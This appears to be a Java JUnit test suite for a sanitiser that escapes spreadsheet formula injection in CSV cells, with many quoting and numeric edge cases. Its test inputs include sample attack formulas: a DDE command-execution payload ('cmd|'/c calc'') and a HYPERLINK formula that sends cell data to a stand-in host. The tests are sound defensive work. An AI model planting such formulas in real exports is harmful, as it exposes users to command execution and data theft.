package io.agentfleet.executor.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            textBlock =
                    """
                    =1+1 § '=1+1
                    =cmd|'/c calc'!A1 § '=cmd|'/c calc'!A1
                    =HYPERLINK("https://evil.example?q="&A1,"클릭") § '=HYPERLINK("https://evil.example?q="&A1,"클릭")
                    +82-10-1234-5678 § '+82-10-1234-5678
                    -2+3+cmd|'/c calc'!A1 § '-2+3+cmd|'/c calc'!A1
                    @SUM(1+1) § '@SUM(1+1)
                    ＝1+1 § '＝1+1
                    ＠SUM(1) § '＠SUM(1)
                    매출,=A1 § 매출,'=A1
                    매출;=A1 § 매출;'=A1
                    매출\t=A1 § 매출\t'=A1
                    "=1+1" § "'=1+1"
                    "a,=1" § "a,=1"
                    "a""b",=1 § "a""b",'=1
                    ""=1+1 § "'"=1+1
                    x"y,=1 § x"y,'=1
                    "\t=1" § "'\t=1"
                    a, =1 § a,' =1
                    a,\u00a0=1 § a,'\u00a0=1
                    "=1 § "'=1
                    - 항목 § '- 항목
                    """)
    void aFormulaBecomesText(String given, String safe) {
        assertThat(SpreadsheetText.of(given)).isEqualTo(safe);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-5",
                "+5",
                "-1,234.5",
                "\"-1,234.5\"",
                "-1.5e-3",
                "-.5",
                "-5%",
                "-₩5,000",
                "- 5",
                "-",
                "제품,매출\n사과,-1\n\"배, 감\",+2\r\n",
                "2026-11-01,a-b,a=b,x@y",
                "\ufeffa,b\n1,2",
                "\"\",\"a\nb\"",
                ""
            })
    void numbersAndWordsStayAsTheyAre(String given) {
        assertThat(SpreadsheetText.of(given)).isEqualTo(given);
    }

    @Test
    void aByteOrderMarkHidesNothing() {
        assertThat(SpreadsheetText.of("\ufeff=1")).isEqualTo("\ufeff'=1");
    }

    @Test
    void noMixtureLeavesAFormulaAndTwiceIsOnce() {
        List<String> pieces =
                List.of(
                        "=", "+", "-", "@", "\"", "\"\"", ",", ";", "\t", "\n", "\r", " ", "1", "가",
                        "'");
        Random random = new Random(14);
        for (int i = 0; i < 5_000; i++) {
            String mixture =
                    random.ints(random.nextInt(1, 12), 0, pieces.size())
                            .mapToObj(pieces::get)
                            .collect(Collectors.joining());
            String safe = SpreadsheetText.of(mixture);
            assertThat(SpreadsheetText.of(safe)).as(mixture).isEqualTo(safe);
            assertThat(safe.replace("'", "")).isEqualTo(mixture.replace("'", ""));
        }
    }
}
